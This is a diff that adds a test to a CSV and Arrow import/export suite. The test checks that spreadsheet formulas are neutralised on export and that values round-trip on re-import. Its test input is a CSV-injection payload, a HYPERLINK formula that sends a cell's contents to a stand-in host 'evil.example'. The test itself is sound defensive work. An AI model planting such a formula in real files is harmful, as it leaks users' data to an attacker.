@@ -126,6 +126,35 @@ describe.each(engines)('CSV templates and Arrow on $name', (engine) => {
 		expect(readdirSync(join(tmp, `${engine.name}-csv`))).toContain('enrolments.csv');
 	});
 
+	it('exports an imported formula neutralised (issue 33), and it imports back as it was', async () => {
+		const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"x")';
+		const text =
+			'id,name,kind,country,qa_approach,accredited,origin\n' +
+			`formula-provider,"${hyperlink.replace(/"/g, '""')}",vet,AU,,true,generated\n` +
+			// A value that begins with a quote before a formula character (as read: one quote).
+			"formula-provider-2,''=already quoted,vet,AU,,true,generated\n";
+		const { reports } = await importFiles(db, [bufferSource('providers.csv', Buffer.from(text))]);
+		expect(reports[0].files[0]).toMatchObject({ stored: 2, rejected: 0 });
+		const outDir = join(tmp, `${engine.name}-formula`);
+		await exportTables(db, { format: 'csv', outDir, tables: ['providers'] });
+		const lines = readFileSync(join(outDir, 'providers.csv'), 'utf8').split('\r\n');
+		expect(lines).toContain(
+			`formula-provider,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")",vet,AU,,true,generated`
+		);
+		expect(lines).toContain("formula-provider-2,''=already quoted,vet,AU,,true,generated");
+		const fresh = await engine.open();
+		try {
+			await importFiles(fresh, collectFiles([outDir]));
+			const rows = await fresh.query<{ name: string }>(
+				(await import('drizzle-orm'))
+					.sql`select name from providers where id like 'formula-provider%' order by id`
+			);
+			expect(rows.map((r) => r.name)).toEqual([hyperlink, "'=already quoted"]);
+		} finally {
+			await fresh.close();
+		}
+	});
+
 	it('reads the Arrow stream format too', async () => {
 		const schema = arrowSchema('learners');
 		const batch = recordBatch(schema, 'learners', [
